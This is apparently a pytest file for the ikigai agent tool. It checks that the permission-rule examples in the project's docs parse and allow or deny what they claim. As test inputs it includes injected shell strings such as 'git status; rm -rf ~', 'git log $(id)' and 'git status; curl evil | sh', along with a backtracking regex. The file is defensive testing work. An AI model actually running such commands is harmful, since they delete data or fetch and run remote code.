"""Every permission-rule example in the docs parses and does what its text says (issue 21
item 10: docs/security.md's ``mcp_*`` matched no MCP tool)."""

from __future__ import annotations

import re
import subprocess
from pathlib import Path

import pytest

from ikigai_core.commands.approving import grants
from ikigai_core.permissions import Rule, deciding_rule, parse_condition, read_rules
from tests.test_cli_agent import IKIGAI

ROOT = Path(__file__).resolve().parents[1]
DOCS = {path.relative_to(ROOT).as_posix(): path.read_text(encoding="utf-8")
        for path in [ROOT / "README.md", *sorted((ROOT / "docs").glob("*.md"))]
        if path.name != "decisions.md"}  # the history quotes old examples on purpose
SECURITY = DOCS["docs/security.md"]
RULE_FILES = [block for text in DOCS.values()
              for block in re.findall(r"```json\n(.*?)```", text, re.S) if '"rules"' in block]
ALLOWS = [spec for text in DOCS.values() for spec in re.findall(r"--allow '([^']+)'", text)]


def mcp_name(server: str, tool: str) -> str:
    """The name ikigai gives an MCP server's tool."""
    return pytest.importorskip("ikigai_mcp.source").tool_name(server, tool)


@pytest.fixture
def example(isolated_home) -> list[Rule]:
    """docs/security.md's permissions.json, read as ikigai reads the user's."""
    [text] = RULE_FILES
    (isolated_home / "permissions.json").write_text(text)
    return read_rules(isolated_home / "permissions.json", "user")


def decided(rules: list[Rule], tool: str, **arguments: str) -> int | str | None:
    rule = deciding_rule(rules, tool, arguments)
    return None if rule is None else rule.id or rule.tool


def test_the_example_file_is_accepted_by_the_command_line(example, isolated_home):
    listed = subprocess.run([IKIGAI, "permissions", "list"], capture_output=True, text=True,
                            timeout=60)
    assert listed.returncode == 0 and "permissions.json" not in listed.stderr, listed.stderr
    assert [line.split(":")[0] for line in listed.stdout.splitlines()] == [
        "rule 1", "rule 2", "rule 3", "rule 4"]


def test_rule_1_allows_git_reading_commands_and_no_second_command(example):
    assert "Rule 1 allows `git status`, `git diff` and `git log` with plain arguments" in SECURITY
    for command in ("git status", "git diff --stat", "git log -n 3 src"):
        assert decided(example, "bash", command=command) == 1, command
    for command in ("git status; rm -rf ~", "git push", "git log | sh", "git log $(id)"):
        assert decided(example, "bash", command=command) is None, command


def test_rule_2_denies_writing_env_files(example):
    assert "rule 2 denies writing any `.env` file (`.env`, `app/.env`, not\n`.envrc`)" in SECURITY
    assert decided(example, "file_write", file_path=".env") == 2
    assert decided(example, "file_write", file_path="app/.env") == 2
    assert decided(example, "file_write", file_path=".envrc") is None


def test_rules_3_and_4_cover_mcp_tools_by_their_real_names(example):
    assert "rule 3 asks before every MCP tool (they are named `SERVER__TOOL`" in SECURITY
    assert "rule 4 allows every tool of the MCP server `time`" in SECURITY
    issue, clock = mcp_name("github", "create_issue"), mcp_name("time", "get_current_time")
    assert decided(example, issue) == 3
    assert decided(example, clock) == 4
    assert decided(example, "bash", command="ls") is None  # not an MCP tool
    broader = [*example, Rule("*", "allow")]  # "even if a broader rule such as `*` allows"
    assert decided(broader, issue) == 3 and decided(broader, "bash", command="ls") == "*"
    assert "(`time__*` over `*__*`)" in SECURITY


def test_a_regex_on_a_command_is_only_as_good_as_the_regex():
    assert "`^git ` also matches\n`git status; curl evil | sh`" in SECURITY
    assert parse_condition("/command~^git ").matches({"command": "git status; curl evil | sh"})


def test_a_backtracking_pattern_lets_no_call_through():
    assert "backtracking pattern such as `^(a|a)+$` on a long argument" in SECURITY
    slow = parse_condition("/command~^(a|a)+$")
    arguments = {"command": "a" * 40 + "!"}
    assert Rule("bash", "deny", (slow,)).matches("bash", arguments)
    assert not Rule("bash", "allow", (slow,)).matches("bash", arguments)


def test_every_allow_example_parses_and_approves_what_it_names():
    assert set(ALLOWS) == {"bash:/command~^ls( |$)"}  # README and docs/batch.md
    granted = grants(False, tuple(ALLOWS))
    for command in ("ls", "ls -la src"):
        assert granted.covering("bash", {"command": command}) is not None
    for command in ("lsblk", "rm -rf ."):
        assert granted.covering("bash", {"command": command}) is None
